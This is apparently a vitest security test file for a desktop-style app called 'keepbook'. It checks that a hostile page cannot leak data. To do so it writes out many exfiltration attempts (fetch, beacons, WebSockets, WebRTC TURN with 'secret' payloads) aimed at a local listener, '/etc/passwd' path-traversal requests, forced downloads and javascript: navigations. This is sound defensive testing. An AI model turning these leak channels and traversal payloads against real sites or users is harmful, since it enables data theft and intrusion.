/** A hostile page tries to leave: by the network, by files, windows, downloads and permissions. It needs no vault. */
import { createSocket } from 'node:dgram';
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchApp, type AppUnderTest } from '../support/app-under-test.ts';
import { codeOf } from '../support/bridge.ts';

const folder = mkdtempSync(join(tmpdir(), 'keepbook-ways-out-'));
let app: AppUnderTest;

beforeAll(async () => {
  app = await launchApp();
}, 60_000);

afterAll(async () => {
  await app.close();
  rmSync(folder, { recursive: true, force: true });
}, 30_000);

describe('ways out', () => {
  test('nothing reaches a listener on this computer, by TCP or UDP', async () => {
    const heard: string[] = [];
    const server = createServer((request, response) => {
      heard.push(`http ${request.url ?? ''}`);
      response.end();
    });
    server.on('connection', () => heard.push('tcp connection'));
    const socket = createSocket('udp4');
    socket.on('message', () => heard.push('udp packet'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    const address = server.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    await app.page.evaluate(
      async ([tcp, udp]) => {
        const at = `http://127.0.0.1:${String(tcp)}/`;
        const attempts: (() => unknown)[] = [
          () => fetch(at, { mode: 'no-cors' }),
          () => fetch(at, { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' }),
          () => navigator.sendBeacon(at, 'secret'),
          () => new WebSocket(`ws://127.0.0.1:${String(tcp)}/`),
          () => new EventSource(at),
          () => {
            const request = new XMLHttpRequest();
            request.open('POST', at);
            request.send('secret');
          },
          () => (new Image().src = `${at}?secret`),
          () => import(/* @vite-ignore */ at),
          () => new Worker(at),
          () => {
            for (const [tag, part] of [
              ['script', 'src'],
              ['link', 'href'],
              ['iframe', 'src'],
              ['object', 'data'],
              ['embed', 'src'],
              ['video', 'src'],
              ['audio', 'src'],
              ['img', 'srcset'],
            ] as const) {
              const element = document.createElement(tag);
              if (tag === 'link') element.setAttribute('rel', 'stylesheet');
              element.setAttribute(part, at);
              document.body.append(element);
              setTimeout(() => {
                element.remove();
              }, 700);
            }
            for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
              const link = Object.assign(document.createElement('link'), { rel, href: at, as: 'script' });
              document.head.append(link);
            }
          },
          () => (document.body.style.backgroundImage = `url(${at})`),
          () => {
            const form = Object.assign(document.createElement('form'), { action: at, method: 'post', target: '_self' });
            document.body.append(form);
            form.submit();
            form.remove();
          },
          () => {
            const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${at}` });
            document.head.append(meta);
            meta.remove();
          },
          async () => {
            const peer = new RTCPeerConnection({
              iceServers: [
                { urls: `stun:127.0.0.1:${String(udp)}` },
                { urls: `turn:127.0.0.1:${String(tcp)}?transport=tcp`, username: 'secret', credential: 'secret' },
              ],
            });
            peer.createDataChannel('out');
            await peer.setLocalDescription(await peer.createOffer());
            setTimeout(() => {
              peer.close();
            }, 2_500);
          },
        ];
        for (const attempt of attempts) {
          try {
            await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 300))]);
          } catch {
            // Blocked loudly.
          }
        }
        await new Promise((resolve) => setTimeout(resolve, 2_500));
        document.body.style.backgroundImage = '';
      },
      [port, socket.address().port],
    );
    server.close();
    socket.close();
    expect(heard).toEqual([]);
    expect(app.page.url()).toMatch(/^https:\/\/keepbook\.localhost\//);
  });

  test('a listener that something does reach would have noticed', async () => {
    const heard: string[] = [];
    const server = createServer((_request, response) => {
      heard.push('http');
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    await fetch(`http://127.0.0.1:${String(typeof address === 'object' && address !== null ? address.port : 0)}/`);
    server.close();
    expect(heard).toEqual(['http']);
  });

  test('files of the computer cannot be read', async () => {
    const secret = join(folder, 'secret.txt');
    writeFileSync(secret, 'secret of the disk');
    const results = await app.page.evaluate(async (path) => {
      const viaFetch = await fetch(`file://${path}`).then(
        (response) => response.text(),
        () => 'refused',
      );
      const viaXhr = await new Promise<string>((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => {
          resolve(request.responseText);
        };
        request.onerror = () => {
          resolve('refused');
        };
        try {
          request.open('GET', `file://${path}`);
          request.send();
        } catch {
          resolve('refused');
        }
      });
      const viaPage = await Promise.all(
        ['/../../../etc/passwd', '/%2e%2e/%2e%2e/package.json', '//etc/passwd'].map((at) =>
          fetch(at).then(
            (response) => response.text(),
            () => 'refused',
          ),
        ),
      );
      return [viaFetch, viaXhr, ...viaPage];
    }, secret);
    expect(new Set(results)).toEqual(new Set(['refused']));
  });

  test('no window opens, no download lands, printing does nothing', async () => {
    const before = app.page.context().pages().length;
    const landed = readdirSync(app.userFolder);
    const downloads: string[] = [];
    app.page.on('download', (download) => {
      downloads.push(download.suggestedFilename());
    });
    const opened = await app.page.evaluate(() => {
      const results = ['https://example.com/', 'about:blank', 'https://keepbook.localhost/'].map(
        (address) => window.open(address) === null,
      );
      const link = Object.assign(document.createElement('a'), {
        href: URL.createObjectURL(new Blob(['customers'])),
        download: 'customers.csv',
      });
      document.body.append(link);
      link.click();
      const other = Object.assign(document.createElement('a'), { href: 'https://keepbook.localhost/', target: '_blank' });
      document.body.append(other);
      other.click();
      link.remove();
      other.remove();
      return results;
    });
    await app.page.waitForTimeout(500);
    expect(opened).toEqual([true, true, true]);
    // The preview shell closes what the browser opened; on a busy machine that takes its time.
    await expect.poll(() => app.page.context().pages().length, { timeout: 15_000 }).toBe(before);
    expect(readdirSync(app.userFolder)).toEqual(landed);
    for (const place of [folder, process.cwd(), tmpdir(), join(process.env['HOME'] ?? '', 'Downloads')])
      expect(existsSync(join(place, 'customers.csv'))).toBe(false);
    if (app.shell === 'preview') expect(await app.page.evaluate(() => (window.print(), 'returned'))).toBe('returned');
  });

  test('a service worker is refused', async () => {
    const result = await app.page.evaluate(async () => {
      const made = await navigator.serviceWorker.register('/assets/worker.js').catch(() => undefined);
      return {
        made: made?.active ?? made?.installing ?? made?.waiting,
        known: (await navigator.serviceWorker.getRegistrations()).length,
        controls: navigator.serviceWorker.controller,
      };
    });
    expect(result).toMatchObject({ known: 0, controls: null });
    expect(result.made ?? undefined).toBeUndefined();
  });

  test('every permission is denied', async () => {
    const results = await app.page.evaluate(async () => {
      const soon = <T>(attempt: Promise<T>): Promise<T | 'silent'> =>
        Promise.race([
          attempt,
          new Promise<'silent'>((resolve) =>
            setTimeout(() => {
              resolve('silent');
            }, 3_000),
          ),
        ]);
      const outcome = (attempt: () => Promise<unknown>): Promise<unknown> =>
        soon(
          attempt().then(
            () => 'granted',
            () => 'denied',
          ),
        );
      return {
        clipboard: await outcome(() => navigator.clipboard.readText()),
        place: await outcome(
          () =>
            new Promise((resolve, reject) => {
              navigator.geolocation.getCurrentPosition(resolve, reject, { timeout: 1_000 });
            }),
        ),
        notification: 'Notification' in window ? await soon(Notification.requestPermission()) : 'denied',
        camera: await outcome(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true })),
        screen: await outcome(() => navigator.mediaDevices.getDisplayMedia()),
      };
    });
    expect(results).toEqual({ clipboard: 'denied', place: 'denied', notification: 'denied', camera: 'denied', screen: 'denied' });
  });

  // Last, because a refused navigation leaves the test's driver waiting for it to finish.
  test('the page cannot be led to another address', async () => {
    for (const address of [
      'https://example.com/',
      'file:///etc/passwd',
      'data:text/html,<p>x',
      'about:blank',
      'blob:https://keepbook.localhost/x',
      'javascript:document.body.innerHTML=1',
    ]) {
      await app.page.evaluate((to) => {
        const link = document.createElement('a');
        link.href = to;
        document.body.append(link);
        link.click();
        link.remove();
      }, address);
      await app.page.waitForTimeout(120);
      // Where an engine lets a page go blank unasked, the window comes back by itself.
      await expect.poll(() => app.page.url()).toMatch(/^https:\/\/keepbook\.localhost\//);
    }
    await expect.poll(() => codeOf(app.page, 'app.state').catch(() => 'loading')).toBe('ok');
  });
});
